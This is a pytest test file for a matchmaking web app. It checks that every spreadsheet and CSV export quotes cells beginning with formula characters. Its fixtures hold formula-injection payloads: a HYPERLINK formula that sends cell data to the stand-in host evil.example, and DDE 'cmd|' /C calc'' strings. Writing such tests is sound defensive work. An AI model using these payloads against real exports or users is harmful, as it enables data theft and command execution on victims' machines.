"""Finding 6 of issue 17: every spreadsheet export neutralises formula text, and CSV exports send
one charset (issue 13). The test walks the URL map, so a new export route must be listed here."""

import csv
import io
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook

from matchmaker.core.exports import FORMULA_STARTS, cell_value, neutralize
from matchmaker.core.extensions import db
from matchmaker.fairs import organize as fair_service
from matchmaker.fairs import plan as fair_plan
from matchmaker.listings.taxonomy import field_by_name
from matchmaker.pairs import transitions as pairs
from matchmaker.pairs.models import Suggestion

FIELD = "机器人与智能制造"
EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
EVIL = {
    "need": EVIL_TITLE,
    "achievement": "+1+cmd|' /C calc'!A0",
    "need_org": "@SUM(1+1)*cmd|' /C calc'!A0",
    "ach_org": "-2+3+cmd|' /C calc'!A0",
    "fair": "=1+1 对接会",
    "broker": '=HYPERLINK("http://evil.example")',
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.fixture
def scene(make_org, make_need, make_achievement, make_user):
    staff = make_user("staff", display_name=EVIL["broker"])
    broker = make_user("broker", display_name=EVIL["broker"])
    broker.fields = [field_by_name(FIELD)]
    need = make_need(
        title=EVIL["need"],
        description=EVIL["tab"],
        organization=make_org(kind="enterprise", name=EVIL["need_org"]),
    )
    ach = make_achievement(
        title=EVIL["achievement"],
        description=EVIL["cr"],
        organization=make_org(kind="institute", name=EVIL["ach_org"]),
    )
    pair = Suggestion(need=need, achievement=ach, score=0.9, terms=[["=cmd", 0.5]])
    db.session.add(pair)
    db.session.commit()
    pairs.transition(pair.id, broker.id, "recommended", note="=1+1")
    fair = fair_service.create_fair(
        EVIL["fair"],
        date.today() + timedelta(days=7),
        venue="@venue",
        slots=4,
        tables=2,
        actor_id=staff.id,
    )
    fair_service.register_all(fair.id, staff.id)
    fair_plan.publish(fair.id, staff.id)
    return {"staff": staff, "broker": broker, "fair": fair, "need": need, "pair": pair}


def export_urls(scene) -> dict[str, list[str]]:
    """Every export route (its URL rule) with the URLs that exercise it."""
    fair_id, need_id = scene["fair"].id, scene["need"].id
    return {
        "/fairs/<int:fair_id>/agenda.xlsx": [f"/fairs/{fair_id}/agenda.xlsx"],
        "/workbench/figures.<fmt>": [
            f"/workbench/figures.{fmt}?by={by}" for fmt in ("csv", "xlsx") for by in ("broker",)
        ],
        "/dashboard/export.xlsx": [
            "/dashboard/export.xlsx",
            f"/dashboard/export.xlsx?fair={fair_id}",
        ],
        "/suggestions/export.<any(xlsx, csv):fmt>": [
            "/suggestions/export.csv",
            "/suggestions/export.xlsx",
            f"/suggestions/export.csv?kind=need&listing_id={need_id}",
        ],
        "/<any(achievements, needs):kinds>/export.<any(xlsx, csv):fmt>": [
            f"/{kinds}/export.{fmt}"
            for kinds in ("needs", "achievements")
            for fmt in ("csv", "xlsx")
        ],
        "/challenges/list.xlsx": ["/challenges/list.xlsx"],
        "/challenges/registrations.xlsx": ["/challenges/registrations.xlsx"],
        "/<any(achievements, needs):kinds>/import/template.<any(xlsx, csv):fmt>": [
            f"/{kinds}/import/template.{fmt}"
            for kinds in ("needs", "achievements")
            for fmt in ("csv", "xlsx")
        ],
    }


def _cells(response) -> list:
    if response.headers["Content-Type"].startswith("text/csv"):
        text = response.data.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    book = load_workbook(io.BytesIO(response.data))
    return [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_every_export_route_is_listed(app, scene):
    rules = {
        r.rule
        for r in app.url_map.iter_rules()
        if r.rule.rsplit("/", 1)[-1].split(".")[-1] in ("xlsx", "csv", "<fmt>")
        or ".<any(xlsx, csv):fmt>" in r.rule
    }
    assert rules == set(export_urls(scene))


def test_no_export_cell_starts_a_formula(client, login, scene):
    login(scene["staff"])
    seen = []
    for rule, urls in export_urls(scene).items():
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, (url, response.data[:300])
            for value in _cells(response):
                if not isinstance(value, str) or (url.endswith("csv") and _is_number(value)):
                    continue
                assert not value.startswith(FORMULA_STARTS), (rule, url, value)
                seen.append(value)
    # The hostile texts did reach the files, inert.
    for text in (EVIL["need"], EVIL["achievement"], EVIL["need_org"], EVIL["fair"], EVIL["broker"]):
        assert any(v.startswith("'" + text) or ("'" + text) in v for v in seen), text


def test_agenda_title_line_and_bold_header_survive(client, login, scene):
    login(scene["staff"])
    book = load_workbook(io.BytesIO(client.get(f"/fairs/{scene['fair'].id}/agenda.xlsx").data))
    sheet = book.active
    assert sheet.title == "日程"
    assert sheet["A1"].value.startswith("'" + EVIL["fair"])
    assert sheet["A2"].value == "时段" and sheet["A2"].font.bold
    assert sheet["D3"].value == "'" + EVIL["need"]


def test_csv_exports_send_one_charset(client, login, scene):
    login(scene["staff"])
    for url in ("/needs/export.csv", "/suggestions/export.csv", "/workbench/figures.csv"):
        response = client.get(url)
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8", url
        assert response.data.startswith(b"\xef\xbb\xbf")


def test_bad_figures_grouping_is_a_field_error_not_500(client, login, scene):
    login(scene["staff"])
    response = client.get("/workbench/figures.csv?by=nobody")
    assert response.status_code == 400


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\t1", "\r1"])
def test_neutralize_quotes_every_formula_start(text):
    assert neutralize(text) == "'" + text
    assert cell_value(text) == "'" + text
    assert cell_value(-1.5) == -1.5 and cell_value("a=1") == "a=1"
